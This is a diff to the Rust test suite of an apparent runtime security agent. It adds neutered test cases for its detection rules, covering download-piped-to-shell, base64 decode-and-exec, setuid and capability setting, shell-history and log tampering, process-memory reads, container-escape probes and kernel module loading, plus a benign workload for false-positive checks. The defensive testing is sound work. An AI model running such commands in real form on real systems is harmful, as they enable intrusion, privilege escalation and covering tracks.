@@ -624,6 +624,201 @@ fn file_cases(fx: &mut Fixtures) -> Vec<Case> {
     ]
 }
 
+/// A pid with no process (`strace -p`/`dd if=/proc/N/mem` on it fail after their exec).
+fn absent_pid() -> u32 {
+    (4_190_000..4_194_000)
+        .find(|n| !Path::new(&format!("/proc/{n}")).exists())
+        .expect("a free pid number")
+}
+
+/// The cases of the technique policies (download-execute, user-persistence,
+/// privilege-escalation, defense-evasion, process-memory, container-escape,
+/// kernel-modules): each does the real thing in a harmless form — modes set on scratch
+/// copies, a scratch HOME's start-up files, writes that append nothing, tools pointed at
+/// absent pids, modules and units, and `--help` forms for the namespace tools, whose rules
+/// match on argv alone.
+fn technique_cases(fx: &mut Fixtures) -> Vec<Case> {
+    let s = Fixtures::s;
+    let home = fx.tmp.join("home");
+    let bashrc = fx
+        .scratch
+        .file(home.join(".bashrc"), b"# rasp test\n", 0o644);
+    let profile = fx
+        .scratch
+        .file(home.join(".profile"), b"# rasp test\n", 0o644);
+    let zsh_history = fx.scratch.file(home.join(".zsh_history"), b"ls\n", 0o600);
+    let script = fx.scratch.file(fx.tmp.join("run.sh"), b"exit 0\n", 0o644);
+    let suid = fx.scratch.copy("/bin/true", fx.tmp.join("suid-copy"));
+    let suid_octal = fx.scratch.copy("/bin/true", fx.tmp.join("suid-octal-copy"));
+    let capped = fx.scratch.copy("/bin/true", fx.tmp.join("cap-copy"));
+    let log = PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test")));
+    fx.scratch.adopt(&log);
+    let absent_log = PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test")));
+    let state = fx.scratch.unique_dir("/var/lib/rasp").join("journal");
+    let crio = Path::new("/run/crio/crio.sock");
+    if !crio.exists() {
+        // A regular file where CRI-O's socket would be: opening it is the probe.
+        fx.scratch.file(crio, b"", 0o600);
+    }
+    let sock = s(&fx.tmp.join("docker.sock"));
+    let nopid = absent_pid();
+    let socket_curl = format!("curl -s -m 1 --unix-socket {sock} http://localhost/version");
+    vec![
+        Case::new(
+            "download-piped-to-shell",
+            "sh -c 'curl -s -m 1 http://127.0.0.1:9/i.sh | sh'",
+        )
+        .exe("/bin/sh")
+        .needs("/usr/bin/curl", "curl"),
+        Case::new(
+            "download-substituted-into-shell",
+            "sh -c 'bash -c \"$(curl -s -m 1 http://127.0.0.1:9/i.sh)\"'",
+        )
+        .exe("/bin/sh")
+        .needs("/usr/bin/curl", "curl"),
+        Case::new(
+            "decoded-payload-to-shell",
+            "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
+        )
+        .exe("/bin/sh"),
+        Case::new(
+            "decoded-payload-substituted-into-shell",
+            "sh -c 'eval \"$(echo dHJ1ZQo= | base64 -d)\"'",
+        )
+        .exe("/bin/sh"),
+        Case::new(
+            "interpreter-inline-fetch-or-decode",
+            "/usr/bin/python3 -c 'import base64; exec(base64.b64decode(\"cGFzcw==\"))'",
+        )
+        .exe("/usr/bin/python3")
+        .needs("/usr/bin/python3", "python3"),
+        Case::new("script-from-writable-dir", format!("sh {}", s(&script))).exe("/bin/sh"),
+        Case::new(
+            "write-user-startup-file",
+            format!("sh -c ': >> {}'", s(&bashrc)),
+        )
+        .exe("/bin/sh")
+        .path(s(&bashrc)),
+        Case::new(
+            "edit-user-startup-file",
+            format!("vim.basic -u NONE -i NONE -n -Es -c wq {}", s(&profile)),
+        )
+        .exe("/usr/bin/vim.basic")
+        .path(s(&profile))
+        .needs("/usr/bin/vim.basic", "vim"),
+        Case::new("setuid-bit-set", format!("chmod u+s {}", s(&suid))).exe("/usr/bin/chmod"),
+        Case::new(
+            "setuid-bit-set-octal",
+            format!("chmod 4755 {}", s(&suid_octal)),
+        )
+        .exe("/usr/bin/chmod"),
+        Case::new(
+            "file-capability-set",
+            format!("setcap cap_net_bind_service+ep {}", s(&capped)),
+        )
+        .exe("/usr/sbin/setcap")
+        .needs("/usr/sbin/setcap", "libcap2-bin"),
+        Case::new(
+            "shell-history-tampering",
+            format!("ln -sf /dev/null {}", s(&home.join(".bash_history"))),
+        )
+        .exe("/usr/bin/ln"),
+        Case::new("shell-history-disabled", "sh -c 'unset HISTFILE; true'").exe("/bin/sh"),
+        Case::new(
+            "shell-history-truncated-by-command",
+            format!("sh -c ': > {}'", s(&zsh_history)),
+        )
+        .exe("/bin/sh")
+        .path(s(&zsh_history)),
+        Case::new(
+            "log-deleted-or-truncated",
+            format!("rm -f {}", s(&absent_log)),
+        )
+        .exe("/usr/bin/rm"),
+        Case::new("log-truncated-on-open", format!("sh -c ': > {}'", s(&log)))
+            .exe("/bin/sh")
+            .path(s(&log)),
+        Case::new(
+            "timestamp-forged",
+            format!("touch -d 2001-01-01 {}", s(&fx.tmp.join("stamp"))),
+        )
+        .exe("/usr/bin/touch"),
+        Case::new(
+            "audit-disabled",
+            format!("systemctl stop {}.service", unique_name("rasp-test-absent")),
+        )
+        .exe("/usr/bin/systemctl")
+        .needs("/usr/bin/systemctl", "systemd"),
+        Case::new(
+            "audit-or-agent-state-tampering",
+            format!("sh -c ': >> {}'", s(&state)),
+        )
+        .exe("/bin/sh")
+        .path(s(&state)),
+        // /proc/1 is not readable on every host (this VM denies it): the victim is a
+        // `sleep` of the case's own.
+        Case::new(
+            "read-process-memory-file",
+            "sh -c 'sleep 5 & dd if=/proc/$!/mem bs=1 count=0 status=none; kill $!'",
+        )
+        .child()
+        .exe("/usr/bin/dd"),
+        Case::new(
+            "read-process-maps-by-tool",
+            format!("cat /proc/{nopid}/maps"),
+        )
+        .exe("/usr/bin/cat"),
+        Case::new("debugger-attached-to-process", format!("strace -p {nopid}"))
+            .exe("/usr/bin/strace")
+            .needs("/usr/bin/strace", "strace"),
+        Case::new(
+            "process-memory-dump-tool",
+            format!("dd if=/proc/{nopid}/mem bs=1 count=0 status=none"),
+        )
+        .exe("/usr/bin/dd"),
+        Case::new("nsenter-into-init-namespaces", "nsenter -t 1 --help")
+            .exe("/usr/bin/nsenter")
+            .needs("/usr/bin/nsenter", "util-linux"),
+        Case::new(
+            "unshare-user-namespace-by-user",
+            "setpriv --reuid=65534 --regid=65534 --clear-groups unshare -r --help",
+        )
+        .exe("/usr/bin/unshare")
+        .needs("/usr/bin/setpriv", "util-linux"),
+        Case::new(
+            "mount-host-device-in-container",
+            "mount --help /dev/sda1 /mnt",
+        )
+        .in_container()
+        .exe("/usr/bin/mount"),
+        Case::new(
+            "write-kernel-escape-hook",
+            "sh -c ': >> /proc/sys/kernel/core_pattern'",
+        )
+        .exe("/bin/sh")
+        .path("/proc/sys/kernel/core_pattern"),
+        Case::new("container-runtime-socket-by-tool", socket_curl.clone())
+            .exe("/usr/bin/curl")
+            .needs("/usr/bin/curl", "curl"),
+        Case::new("container-runtime-socket-in-container", socket_curl)
+            .in_container()
+            .exe("/usr/bin/curl")
+            .needs("/usr/bin/curl", "curl"),
+        Case::new(
+            "container-runtime-socket-opened",
+            format!("cat {}", s(crio)),
+        )
+        .exe("/usr/bin/cat")
+        .path(s(crio)),
+        Case::new("kernel-module-insert", "insmod /nonexistent/rasp-test.ko")
+            .exe("/usr/bin/kmod")
+            .needs("/usr/sbin/insmod", "kmod"),
+        Case::new("kernel-module-remove", "rmmod rasp_test_absent_module")
+            .exe("/usr/bin/kmod")
+            .needs("/usr/sbin/rmmod", "kmod"),
+    ]
+}
+
 fn canonical_or_same(path: &Path) -> String {
     fs::canonicalize(path)
         .unwrap_or_else(|_| path.to_path_buf())
@@ -885,6 +1080,7 @@ fn every_shipped_rule_has_a_scenario() {
     cases.extend(file_cases(&mut fx));
     cases.extend(library_cases(&mut fx));
     cases.extend(connect_cases());
+    cases.extend(technique_cases(&mut fx));
     for case in &cases {
         let rule = shipped_rule(case.rule);
         covered.insert(rule.id.clone());
@@ -1005,6 +1201,57 @@ fn cloud_metadata_rules_fire_on_a_real_connect() {
     run_cases(&agent, &connect_cases());
 }
 
+/// Runs the technique cases of `policy`, requiring the file-open hook when any is a file case.
+fn run_technique_policy(policy: &str) {
+    require_root();
+    let agent = Agent::start(&[]);
+    let mut fx = Fixtures::new();
+    let cases = cases_of_policy(technique_cases(&mut fx), policy);
+    assert!(!cases.is_empty(), "no cases for policy {policy}");
+    if cases
+        .iter()
+        .any(|c| shipped_rule(c.rule).event == "file_open")
+    {
+        require_hook(&agent, "file_open");
+    }
+    run_cases(&agent, &cases);
+}
+
+#[test]
+fn download_execute_rules_fire_on_real_pipelines() {
+    run_technique_policy("download-execute");
+}
+
+#[test]
+fn user_persistence_rules_fire_on_real_startup_file_writes() {
+    run_technique_policy("user-persistence");
+}
+
+#[test]
+fn privilege_escalation_rules_fire_on_real_mode_changes() {
+    run_technique_policy("privilege-escalation");
+}
+
+#[test]
+fn defense_evasion_rules_fire_on_real_track_covering() {
+    run_technique_policy("defense-evasion");
+}
+
+#[test]
+fn process_memory_rules_fire_on_real_memory_access() {
+    run_technique_policy("process-memory");
+}
+
+#[test]
+fn container_escape_rules_fire_on_real_escape_forms() {
+    run_technique_policy("container-escape");
+}
+
+#[test]
+fn kernel_module_rules_fire_on_real_module_tools() {
+    run_technique_policy("kernel-modules");
+}
+
 // ---------------------------------------------------------------------------------------
 // A normal workload.
 
@@ -1038,8 +1285,10 @@ fn free_loopback_port() -> u16 {
         .port()
 }
 
-/// What a developer's or a database host's day looks like: file tools, git, python, a C
-/// build whose result runs from a normal directory, shell scripts, and a real PostgreSQL
+/// What a developer's or a database host's day looks like: file tools, git (in /tmp too),
+/// python, modes and timestamps set the ordinary way, base64 decoding to a file, shells
+/// reading their rc files, a C build whose result runs from a normal directory, shell
+/// scripts, and a real PostgreSQL
 /// (initdb, start, a query over TCP on loopback, stop). Arguments: WORK (not under /tmp),
 /// TMP, PGBIN, PORT.
 const WORKLOAD: &str = r#"set -eu
@@ -1053,6 +1302,15 @@ git --version > /dev/null
 python3 -c 'print(1)' > /dev/null
 env > /dev/null
 id > /dev/null
+chmod 755 "$work"
+touch "$tmp/stamp"
+echo aGk= | base64 -d > /dev/null
+python3 -c 'import base64; print(base64.b64encode(b"x"))' > /dev/null
+cat "${HOME:-/root}/.bashrc" > /dev/null 2>&1 || true
+systemctl --version > /dev/null 2>&1 || true
+printf 'import sys\nprint(sys.argv)\n' > "$work/t.py"
+python3 "$work/t.py" "$tmp" > /dev/null
+git init -q "$tmp/repo" && git -C "$tmp/repo" status > /dev/null
 cat /etc/hostname > /dev/null
 sleep 0.1
 sh -c 'for i in 1 2 3; do echo "line $i"; done' | wc -l > /dev/null
